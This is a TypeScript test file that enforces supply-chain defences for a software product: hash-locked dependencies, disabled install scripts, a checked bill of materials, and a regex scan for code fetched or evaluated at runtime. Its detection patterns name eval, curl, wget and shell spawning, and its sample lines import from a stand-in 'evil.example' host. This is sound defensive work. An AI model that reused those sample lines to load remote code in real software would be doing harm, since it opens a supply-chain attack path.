// Rows 96 and 97 of the attack table: how code gets in.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { root } from "../house/index.ts";

interface Locked {
  readonly version: string;
  readonly integrity?: string;
  readonly resolved?: string;
  readonly link?: boolean;
  readonly dev?: boolean;
  readonly optional?: boolean;
  readonly os?: readonly string[];
  readonly hasInstallScript?: boolean;
}

const text = (path: string) => readFileSync(join(root, path), "utf8");
const billOfMaterials = (lock: string): string => {
  const program = join(root, "tools", "setup", "bill-of-materials.mjs");
  const done = spawnSync(process.execPath, [program, "-"], { input: lock, maxBuffer: 2 ** 26 });
  assert.equal(done.status, 0, done.stderr.toString());
  return done.stdout.toString();
};
const locked = () =>
  Object.entries((JSON.parse(text("package-lock.json")) as { packages: Record<string, Locked> }).packages).filter(
    ([path, { link }]) => path.includes("node_modules/") && link !== true,
  );

test("attack 97: every package of the product is locked by the hash of its file", () => {
  const packages = locked();
  assert.ok(packages.length > 300, `${packages.length} packages`);
  for (const [path, { integrity, dev, optional, os }] of packages) {
    // Builds for other platforms that no registry here carries: for those who develop, and never of the product.
    if (integrity === undefined) assert.ok(dev === true && optional === true && os !== undefined, path);
    else assert.match(integrity, /^sha512-[A-Za-z0-9+/]{86}==$/, path);
  }
});

/** Packages that would run a script when they are installed, and why they are not let. */
const withScripts: Readonly<Record<string, string>> = {
  "@julusian/jpeg-turbo": "builds itself where no prebuilt file fits; one does on every platform that we run on",
  "core-js-pure": "prints an advertisement",
  pkcs11js: "built by who keeps the root key in a token (docs/dependencies.md)",
};

test("attack 97: no package runs a script when it is installed, and none comes that would without a word", () => {
  const wanting = locked()
    .filter(([, { hasInstallScript }]) => hasInstallScript === true)
    .map(([path]) => path.slice(path.lastIndexOf("node_modules/") + "node_modules/".length));
  assert.deepEqual([...new Set(wanting)].sort(), Object.keys(withScripts).sort());
  assert.match(text("tools/setup/install.mjs"), /"ci",[^\]]*"--ignore-scripts"/s);
  const scripts = (JSON.parse(text("package.json")) as { scripts: Record<string, string> }).scripts;
  for (const name of ["preinstall", "install", "postinstall", "prepare"]) assert.equal(scripts[name], undefined);
});

test("attack 97: a package that comes, goes or changes changes the bill of materials, which is read", () => {
  const lock = text("package-lock.json");
  assert.equal(
    text("docs/sbom.cdx.json"),
    billOfMaterials(lock),
    "package-lock.json has changed: node tools/setup/bill-of-materials.mjs, and look at what it brings",
  );
  const bill = JSON.parse(billOfMaterials(lock)) as { components: { purl: string }[] };
  assert.equal(new Set(bill.components.map(({ purl }) => purl)).size, bill.components.length);
  const [path, entry] = locked().find(([, { integrity }]) => integrity !== undefined) ?? assert.fail();
  for (const change of [
    { version: "6.6.6" },
    { integrity: `sha512-${Buffer.alloc(64).toString("base64")}` },
    { hasInstallScript: true },
  ]) {
    const changed = JSON.parse(lock) as { packages: Record<string, object> };
    changed.packages[path] = { ...entry, ...change };
    assert.notEqual(billOfMaterials(JSON.stringify(changed)), billOfMaterials(lock), Object.keys(change)[0]);
  }
});

const floors = ["base", "formats", "imaging", "trust", "radiology", "stores", "doors", "apps"];

/** The product's own sources, without tests. */
const product = () =>
  floors.flatMap((floor) =>
    readdirSync(join(root, floor), { recursive: true, encoding: "utf8" })
      .map((path) => `${floor}/${path}`)
      .filter((path) => /\.tsx?$/.test(path) && !/node_modules|\/dist\/|\.(test|contract|fixture)\./.test(path))
      .map((path) => ({ path, code: text(path) })),
  );

/** Ways by which a program runs what was not there when it was installed. */
const lateCode: Readonly<Record<string, RegExp>> = {
  "a module whose name is decided at run time": /\bimport\(\s*(?!["'])/,
  "a module from an address": /\b(from|import)\s*\(?\s*["'](https?|data|blob|file):/,
  "text that is run":
    /\b(eval|new Function|runIn(New|This)?Context|compileFunction|createRequire|registerHooks)\b\s*\(/,
  "a program that fetches or interprets":
    /\b(spawn|exec|execFile|fork)(Sync)?\(\s*["'`](npm|npx|node|curl|wget|sh|bash|git)\b/,
  "a place that programs are published at":
    /https?:\/\/[\w.-]*(npmjs|github|unpkg|jsdelivr|cdn|update|release|download)/,
};

test("attack 96: no code is fetched or made while it runs, and nothing looks for updates: who runs it brings it up to date", () => {
  const sources = product();
  assert.ok(sources.length > 300, `${sources.length} sources`);
  const found = sources.flatMap(({ path, code }) =>
    Object.entries(lateCode)
      .filter(([, pattern]) => pattern.test(code))
      .map(([what]) => `${path}: ${what}`),
  );
  assert.deepEqual(found, []);
  for (const [what, example] of [
    ["a module whose name is decided at run time", "await import(name)"],
    ["a module from an address", 'import x from "https://evil.example/x.js"'],
    ["text that is run", "new Function (text)"],
    ["a program that fetches or interprets", 'spawn("npm", ["update"])'],
    ["a place that programs are published at", 'fetch("https://updates.example/leadglass")'],
  ])
    assert.match(example ?? "", lateCode[what ?? ""] ?? /^$/);
});
